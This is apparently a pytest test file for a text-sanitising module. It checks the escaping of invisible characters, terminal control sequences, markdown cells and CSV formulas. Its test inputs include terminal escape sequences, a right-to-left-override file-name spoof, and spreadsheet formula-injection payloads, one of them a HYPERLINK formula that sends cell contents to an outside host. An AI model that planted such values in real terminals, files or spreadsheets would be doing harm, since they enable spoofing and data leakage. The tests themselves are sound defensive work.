"""Text that others wrote: all that can be seen stays, and nothing stays that a terminal or a spreadsheet obeys."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from games.text import LONGEST_SENTENCE, csv_line, cut, markdown_cell, markdown_table, sentence, shown

HIDDEN = [*range(0x20), *range(0x7F, 0xA0), 0x61C, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029]
HIDDEN += [
    *range(0x202A, 0x202F),
    0x2060,
    *range(0x2066, 0x206A),
    0xFEFF,
    0xAD,
    0x3164,
    0xFE0F,
    0xD800,
    0xE0041,
    0xE000,
]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "runs/a[/red]b [bold]c :smile: $x$ {{7*7}} <b> & =1+1",
            "runs/a[/red]b [bold]c :smile: $x$ {{7*7}} <b> & =1+1",
        ),
        ("日本語 مرحبا é ± Ω 😀", "日本語 مرحبا é ± Ω 😀"),
        ("\x1b]0;pwned\x07\x1b[2Jclear", r"\x1b]0;pwned\x07\x1b[2Jclear"),
        ("\x9b2J", r"\x9b2J"),  # one byte that begins a command
        ("exe\u202etxt.\u2066a\u2069", r"exe\u202etxt.\u2066a\u2069"),
        ("a\u200bb\u2060c\ufeff", r"a\u200bb\u2060c\ufeff"),
        ("line\r\nline\tq\x00\x7f", r"line\r\nline\tq\x00\x7f"),
        ("\ud800\udcff", r"\ud800\udcff"),
        ("❤\ufe0f \U000e0041", r"❤\ufe0f \U000e0041"),
        (r"\x1b[2J", r"\x1b[2J"),
    ],
)
def test_what_cannot_be_seen_is_spelled_out(text, expected):
    assert shown(text) == expected


@pytest.mark.parametrize("code", HIDDEN)
def test_every_one_of_them(code):
    assert shown(chr(code)).isascii() and shown(chr(code)).startswith("\\") and shown(f"a{chr(code)}b").isprintable()


@given(st.text())
def test_what_is_shown_is_printable_and_stays_as_it_is(text):
    assert shown(text).isprintable() and shown(shown(text)) == shown(text)


@given(st.text(), st.integers(1, 30))
def test_long_text_is_cut_in_its_middle(text, most):
    found = cut(text, most)
    assert len(found) <= most and (found == text if len(text) <= most else found[0] in (text[0], "…"))


def test_a_sentence_keeps_its_beginning_and_its_remedy():
    found = sentence(f"marl: expected a name, got '{'x' * 100_000}\n\x1b[2J'; name another")
    assert len(found) == LONGEST_SENTENCE and found.startswith("marl: expected a name, got 'xxx")
    assert found.endswith(r"\n\x1b[2J'; name another")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a|b*c", r"a\|b\*c"),
        ("[x](y) `c` ~~d~~ $e$ \\", r"\[x\](y) \`c\` \~\~d\~\~ \$e\$ " + "\\\\"),
        ("<script>&amp;", "&lt;script>&amp;amp;"),
        ("tit_for_tat", "tit_for_tat"),  # an underscore within a word means nothing
        ("_a_ b__c __d", r"\_a\_ b\_\_c \_\_d"),
        ("@x|\n| y", r"@x\|\\n\| y"),
    ],
)
def test_markdown(text, expected):
    assert markdown_cell(text) == expected


def test_a_name_makes_no_row_and_no_column():
    lines = markdown_table(["agent", "a|b"], [["x\n| y |", "1"], ["z", "2"]])
    assert lines[1] == "| :-- | --: |" and len(lines) == 4
    assert all(line.replace("\\|", "").count("|") == 3 for line in lines)


@pytest.mark.parametrize(
    "name", ["=1+1", "+1+1", "-1+1", "@SUM(1)", "=", "-", "＝1", '=HYPERLINK("http://x/?"&A1,"y")']
)
def test_what_a_spreadsheet_would_compute_is_text(name):
    [[cell]] = csv.reader([csv_line([name])])
    assert cell == f"'{name}"


def test_numbers_and_names_are_cells():
    line = csv_line(
        [1, "-12.300", "0.5", "", None, "mcts(simulations=9, c=1)", 'q"q', "a;=1", "a\tb\r\n=c", "runs/a-b_c:d"]
    )
    assert line.startswith("1,-12.300,0.5,,None,") and line.count("\n") == 0
    [cells] = csv.reader(io.StringIO(line))
    assert cells[5:] == ["mcts(simulations=9, c=1)", 'q"q', "a;=1", r"a\tb\r\n=c", "runs/a-b_c:d"]
    assert '"a;=1"' in line  # quoted: it is one cell where a semicolon parts cells, too


@given(st.lists(st.text(), min_size=2))
def test_a_line_of_csv_is_a_line_that_reads_back(cells):
    [found] = csv.reader([csv_line(cells)])
    assert [cell.removeprefix("'") for cell in found] == [shown(cell).removeprefix("'") for cell in cells]
